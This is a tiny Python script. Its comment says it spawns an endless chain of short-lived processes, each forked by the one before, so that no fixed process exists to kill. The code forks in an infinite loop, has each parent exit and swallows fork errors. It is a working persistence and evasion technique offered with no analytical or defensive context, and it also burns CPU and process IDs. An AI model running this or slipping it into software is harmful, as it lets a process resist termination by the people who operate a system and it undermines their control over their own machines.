# Short-lived processes without end, each started by the one before: there is never a fixed process to kill.
import os
while True:
    try:
        if os.fork() != 0:
            os._exit(0)
    except OSError:
        pass
